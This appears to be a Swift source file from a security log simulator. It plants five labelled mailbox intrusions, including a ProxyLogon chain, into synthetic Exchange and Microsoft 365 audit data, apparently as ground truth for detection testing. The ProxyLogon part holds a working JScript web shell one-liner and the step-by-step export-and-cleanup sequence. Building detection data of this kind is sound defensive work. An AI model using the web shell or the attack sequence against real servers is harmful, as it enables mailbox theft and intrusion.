@@ -1,0 +1,260 @@
+import AuditEvents
+
+/// The five labelled intrusions, each late in the data so baselines exist before it.
+extension Simulator {
+    mutating func plantAttacks() {
+        proxyLogon()
+        oauthAppReadingExecutives()
+        adminGrantSyncRevoke()
+        lowAndSlowInsider()
+        rogueComplianceExport()
+    }
+
+    /// A day in the last `window` days, at least `margin` days before the end.
+    private mutating func lateDay(window: Int, margin: Int = 1) -> Int {
+        days - margin - random.next(below: max(1, window - margin))
+    }
+
+    /// An address from the documentation range no one in the tenant uses.
+    private mutating func attackerAddress(_ block: Int) -> String {
+        "203.0.113.\(block * 40 + 10 + random.next(below: 30))"
+    }
+
+    /// ProxyLogon on EXCH01: SSRF through the front end and a web shell, then SYSTEM grants itself
+    /// Mailbox Import Export, exports the lab head's mailbox to aspnet_client, reads the research
+    /// mailboxes over EWS, fetches the PST over the web and removes the export request.
+    private mutating func proxyLogon() {
+        let day = lateDay(window: 6)
+        let attacker = attackerAddress(0)
+        let start = calendar.at(day, 2, random.next(below: 20))
+        let shell = "aspnet_client/system_web/\(random.hex(8)).aspx"
+        let exportName = random.hex(6)
+        let crawler = "DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)"
+        for offset in 0..<3 {
+            iis(
+                start.adding(minutes: offset), method: "POST", stem: "/owa/auth/Current/themes/resources/logon.css",
+                client: attacker, agent: crawler)
+        }
+        for offset in 0..<3 {
+            let time = start.adding(minutes: 2 + offset)
+            iis(time, method: "POST", stem: "/ecp/y.js", client: attacker, agent: "python-requests/2.25.1")
+            httpProxy(
+                time, protocol: "Ecp", stem: "/ecp/y.js", user: "",
+                anchor: "ServerInfo~a]@exch01.\(SimulatedTenant.domain):444/autodiscover/autodiscover.xml?#",
+                agent: "python-requests/2.25.1", client: attacker, status: 200, method: "POST")
+        }
+        iis(
+            start.adding(minutes: 5), method: "POST", stem: "/ecp/DDI/DDIService.svc/SetObject",
+            query: "schema=OABVirtualDirectory", client: attacker, agent: "python-requests/2.25.1")
+        let system = "NT AUTHORITY\\SYSTEM (w3wp)"
+        adminAudit(
+            start.adding(minutes: 5), caller: system, cmdlet: "Set-OabVirtualDirectory",
+            object: "EXCH01\\OAB (Default Web Site)",
+            parameters: [
+                ("Identity", "EXCH01\\OAB (Default Web Site)"),
+                (
+                    "ExternalUrl",
+                    "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>"
+                ),
+            ])
+        for offset in 0..<4 {
+            iis(
+                start.adding(minutes: 7 + offset), method: "POST", stem: "/" + shell, client: attacker,
+                agent: "antSword/v2.1")
+        }
+        let victims = Array(people.onPremises.prefix(6))
+        guard let head = victims.first else { return }
+        adminAudit(
+            start.adding(minutes: 8), caller: system, cmdlet: "New-ManagementRoleAssignment",
+            object: "Mailbox Import Export-SYSTEM", parameters: [("Role", "Mailbox Import Export"), ("User", "SYSTEM")])
+        adminAudit(
+            start.adding(minutes: 10), caller: system, cmdlet: "New-MailboxExportRequest",
+            object: "\(head.name)\\MailboxExport",
+            parameters: [
+                ("Mailbox", head.name),
+                ("FilePath", "\\\\EXCH01\\c$\\inetpub\\wwwroot\\aspnet_client\\\(exportName).pst"),
+            ])
+        var time = start.adding(minutes: 12)
+        for victim in victims {
+            for folder in ["\\Inbox", "\\Sent Items", "\\Inbox\\Grants"] {
+                mailboxAudit(
+                    time, operation: "FolderBind", logonType: "Admin", actorName: "NT AUTHORITY\\SYSTEM",
+                    actorSID: "S-1-5-18", owner: victim, address: attacker,
+                    client: "Client=WebServices;ExchangeServicesClient/0.0.0.0;", folder: folder, items: 1)
+                mailboxAudit(
+                    time.adding(minutes: 1), operation: "MessageBind", logonType: "Admin",
+                    actorName: "NT AUTHORITY\\SYSTEM", actorSID: "S-1-5-18", owner: victim, address: attacker,
+                    client: "Client=WebServices;ExchangeServicesClient/0.0.0.0;", folder: folder,
+                    items: 40 + random.next(below: 80))
+            }
+            time = time.adding(minutes: 3)
+        }
+        iis(
+            time, method: "GET", stem: "/aspnet_client/\(exportName).pst", client: attacker,
+            agent: "python-requests/2.25.1")
+        adminAudit(
+            time.adding(minutes: 2), caller: system, cmdlet: "Remove-MailboxExportRequest",
+            object: "\(head.name)\\MailboxExport",
+            parameters: [("Identity", "\(head.name)\\MailboxExport"), ("Confirm", "False")])
+        attacks.append(
+            .init(
+                id: "proxylogon",
+                summary:
+                    "ProxyLogon on EXCH01 from \(attacker): SSRF, web shell, export to aspnet_client, EWS reads as SYSTEM",
+                parts: [
+                    .init(actor: system, from: start, until: time.adding(minutes: 5)),
+                    .init(
+                        actor: "NT AUTHORITY\\SYSTEM", from: start, until: time.adding(minutes: 5),
+                        mailboxes: victims.map(\.upn)),
+                ]))
+    }
+
+    /// A stolen admin session consents full_access_as_app for a new app, which then reads the
+    /// executives' mailboxes from a VPS every night for four nights.
+    private mutating func oauthAppReadingExecutives() {
+        let day = lateDay(window: 10, margin: 5)
+        let admin = people.admins[0]
+        let app = random.uuid()
+        let actor = "ServicePrincipal_\(app)"
+        let granted = calendar.at(day, 22, 10 + random.next(below: 30))
+        let grantAddress = attackerAddress(1)
+        event(
+            granted, actor: admin.adminUPN, operation: "Add app role assignment grant to service principal.",
+            recordType: 8, workload: "AzureActiveDirectory", address: grantAddress,
+            extra: [
+                ("ObjectId", .text(app)),
+                (
+                    "ModifiedProperties",
+                    .properties([
+                        ("AppRole.Id", "dc890d15-9560-4a4c-9b7f-a736ec74ec40"), ("AppRole.Value", "full_access_as_app"),
+                        ("ServicePrincipal.AppId", app),
+                    ])
+                ),
+            ])
+        event(
+            granted.adding(minutes: 3), actor: admin.adminUPN, operation: "Add service principal credentials.",
+            recordType: 8, workload: "AzureActiveDirectory", address: grantAddress, extra: [("ObjectId", .text(app))])
+        let targets = people.executives.map(\.upn)
+        let readAddress = attackerAddress(2)
+        for night in (day + 1)..<min(day + 5, days) {
+            var time = calendar.at(night, 1, 30 + random.next(below: 20))
+            for mailbox in targets {
+                for folder in ["\\Inbox", "\\Sent Items", "\\Archive"] {
+                    read(
+                        time, actor: actor, owner: mailbox, address: readAddress, items: 30 + random.next(below: 60),
+                        userType: 5, client: "Client=REST;Client=RESTSystem;;", appID: app, session: nil, folder: folder
+                    )
+                    time = time.adding(minutes: 1 + random.next(below: 3))
+                }
+            }
+        }
+        attacks.append(
+            .init(
+                id: "oauth-app-night-reads",
+                summary: "\(admin.adminUPN) grants a new app full_access_as_app; it reads the executives at night",
+                parts: [
+                    .init(actor: admin.adminUPN, from: granted, until: granted.adding(minutes: 10)),
+                    .init(actor: actor, from: calendar.at(day + 1, 0), until: calendar.at(day + 5, 0)),
+                ]))
+    }
+
+    /// A compromised admin account grants itself FullAccess to an executive at night, syncs the
+    /// mailbox, and removes the grant.
+    private mutating func adminGrantSyncRevoke() {
+        let day = lateDay(window: 8, margin: 2)
+        let admin = people.admins[1]
+        let victim = people.executives[1 + random.next(below: people.executives.count - 1)]
+        let address = attackerAddress(3)
+        let granted = calendar.at(day, 23, random.next(below: 15))
+        let rights = [("Identity", victim.upn), ("User", admin.adminUPN), ("AccessRights", "FullAccess")]
+        cmdlet(granted, actor: admin.adminUPN, operation: "Add-MailboxPermission", parameters: rights, address: address)
+        let session = random.uuid()
+        var time = granted.adding(minutes: 8)
+        for folder in ["\\Inbox", "\\Sent Items", "\\Archive", "\\Deleted Items", "\\Inbox\\Board", "\\Inbox\\Legal"] {
+            read(
+                time, actor: admin.adminUPN, owner: victim.upn, address: address, access: "Sync", items: 0,
+                logonType: 2,
+                client: "Client=MSExchangeRPC", appID: Self.outlook, session: session, folder: folder)
+            time = time.adding(minutes: 2)
+        }
+        for folder in ["\\Inbox", "\\Inbox\\Board", "\\Inbox\\Legal"] {
+            read(
+                time, actor: admin.adminUPN, owner: victim.upn, address: address, items: 60 + random.next(below: 90),
+                logonType: 2, client: "Client=MSExchangeRPC", appID: Self.outlook, session: session, folder: folder)
+            time = time.adding(minutes: 4)
+        }
+        let revoked = time.adding(minutes: 70)
+        cmdlet(
+            revoked, actor: admin.adminUPN, operation: "Remove-MailboxPermission", parameters: rights, address: address)
+        attacks.append(
+            .init(
+                id: "admin-grant-sync-revoke",
+                summary: "\(admin.adminUPN) grants itself FullAccess to \(victim.upn) at night, syncs it, revokes",
+                parts: [.init(actor: admin.adminUPN, from: granted, until: revoked.adding(minutes: 1))]))
+    }
+
+    /// An employee who kept FullAccess from an old role reads a few messages from three colleagues'
+    /// mailboxes every working day for three weeks, in working hours, from the office.
+    private mutating func lowAndSlowInsider() {
+        guard let insider = pick(1, from: ordinaryStaff()).first else { return }
+        let first = max(1, days - 21)
+        var victims: [String] = []
+        for day in first..<days where calendar.isWeekday(day) {
+            let session = random.uuid()
+            var time = calendar.at(day, insider.startHour + 2 + random.next(below: 5), random.next(below: 60))
+            let address = officeAddress()
+            for _ in 0..<3 {
+                let victim = people.cloud[random.next(below: people.cloud.count)]
+                guard victim.name != insider.name else { continue }
+                victims.append(victim.upn)
+                read(
+                    time, actor: insider.upn, owner: victim.upn, address: address, items: 2 + random.next(below: 4),
+                    logonType: 2, client: "Client=OWA;" + Self.browser, appID: Self.owa, session: session)
+                time = time.adding(minutes: 3 + random.next(below: 6))
+            }
+        }
+        attacks.append(
+            .init(
+                id: "low-and-slow-insider",
+                summary:
+                    "\(insider.upn) reads a few messages from \(Set(victims).count) colleagues' mailboxes over weeks",
+                parts: [
+                    .init(
+                        actor: insider.upn, from: calendar.at(first, 0), until: calendar.at(days, 0), mailboxes: victims
+                    )
+                ]))
+    }
+
+    /// A paralegal's stolen account searches every mailbox at night, exports the results and downloads
+    /// them from another address.
+    private mutating func rogueComplianceExport() {
+        guard let actor = pick(1, from: ordinaryStaff()).first else { return }
+        let day = lateDay(window: 8, margin: 1)
+        let start = calendar.at(day, 21, random.next(below: 30))
+        let address = attackerAddress(4)
+        let search = "q" + random.hex(5)
+        cmdlet(
+            start, actor: actor.upn, operation: "New-ComplianceSearch",
+            parameters: [
+                ("Name", search), ("ExchangeLocation", "All"), ("ContentMatchQuery", "merger OR acquisition"),
+            ],
+            address: address, recordType: 18, workload: "SecurityComplianceCenter")
+        cmdlet(
+            start.adding(minutes: 1), actor: actor.upn, operation: "Start-ComplianceSearch",
+            parameters: [("Identity", search)], address: address, recordType: 18, workload: "SecurityComplianceCenter")
+        cmdlet(
+            start.adding(minutes: 25), actor: actor.upn, operation: "New-ComplianceSearchAction",
+            parameters: [("SearchName", search), ("Export", "")], address: address, recordType: 18,
+            workload: "SecurityComplianceCenter")
+        let downloaded = start.adding(minutes: 70)
+        event(
+            downloaded, actor: actor.upn, operation: "SearchExportDownloaded", recordType: 24,
+            workload: "SecurityComplianceCenter", address: attackerAddress(5),
+            extra: [("ObjectId", .text(search + "_Export"))])
+        attacks.append(
+            .init(
+                id: "rogue-compliance-export",
+                summary: "\(actor.upn)'s account searches all mailboxes at night, exports and downloads them",
+                parts: [.init(actor: actor.upn, from: start, until: downloaded.adding(minutes: 1))]))
+    }
+}
